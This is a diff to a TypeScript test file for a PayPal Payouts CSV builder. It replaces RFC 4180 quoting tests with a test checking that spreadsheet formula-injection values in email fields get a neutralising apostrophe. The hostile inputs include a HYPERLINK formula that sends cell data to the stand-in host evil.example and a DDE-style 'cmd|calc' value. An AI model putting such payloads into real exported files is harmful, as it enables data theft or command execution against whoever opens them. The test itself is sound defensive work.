@@ -1,4 +1,4 @@
-import { buildPayPalPayoutsCsv, csvField, payoutNote } from './paypal-payouts-csv';
+import { buildPayPalPayoutsCsv, payoutNote } from './paypal-payouts-csv';
 
 describe('PayPal Payouts CSV', () => {
   const note = 'Reelmix affiliate commissions, March 2026';
@@ -18,12 +18,22 @@ describe('PayPal Payouts CSV', () => {
     expect(buildPayPalPayoutsCsv([])).toBe('');
   });
 
-  it('quotes per RFC 4180: commas, quotes and line breaks', () => {
-    expect(csvField('plain')).toBe('plain');
-    expect(csvField('a,b')).toBe('"a,b"');
-    expect(csvField('say "hi"')).toBe('"say ""hi"""');
-    expect(csvField('two\nlines')).toBe('"two\nlines"');
-    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
+  it('defuses an address a spreadsheet would run as a formula, as every CSV the product writes does', () => {
+    const hostile = [
+      '=HYPERLINK("https://evil.example/?"&A1,"Open")@example.com',
+      '+1+cmd|calc@example.com',
+      '-2+3@example.com',
+      '@SUM(A1)@example.com',
+      '\t=1+1@example.com',
+    ];
+    const csv = buildPayPalPayoutsCsv(hostile.map((email, i) => ({ email, amountCents: 5000, reference: `PO-${i}`, note: 'n' })));
+    expect(csv.split('\r\n').filter(Boolean)).toEqual([
+      `"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")@example.com",50.00,USD,PO-0,n,PAYPAL`,
+      "'+1+cmd|calc@example.com,50.00,USD,PO-1,n,PAYPAL",
+      "'-2+3@example.com,50.00,USD,PO-2,n,PAYPAL",
+      "'@SUM(A1)@example.com,50.00,USD,PO-3,n,PAYPAL",
+      "'\t=1+1@example.com,50.00,USD,PO-4,n,PAYPAL",
+    ]);
   });
 
   it('quotes an address that needs it', () => {
